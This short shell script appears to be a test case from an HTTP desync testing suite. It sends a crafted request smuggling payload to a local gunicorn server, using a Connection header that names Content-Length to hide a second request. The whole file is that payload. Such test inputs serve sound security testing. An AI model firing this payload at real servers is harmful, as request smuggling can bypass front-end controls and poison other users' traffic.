#!/bin/sh
# desync/connection-names-framing-field/smuggled-request via header.insert-field against gunicorn
printf 'GET / HTTP/1.1\r\nConnection:Content-Length\r\n\r\nGET / HTTP/1.1\r\n\r\n' | nc 127.0.0.1 ${PORT:-39237}
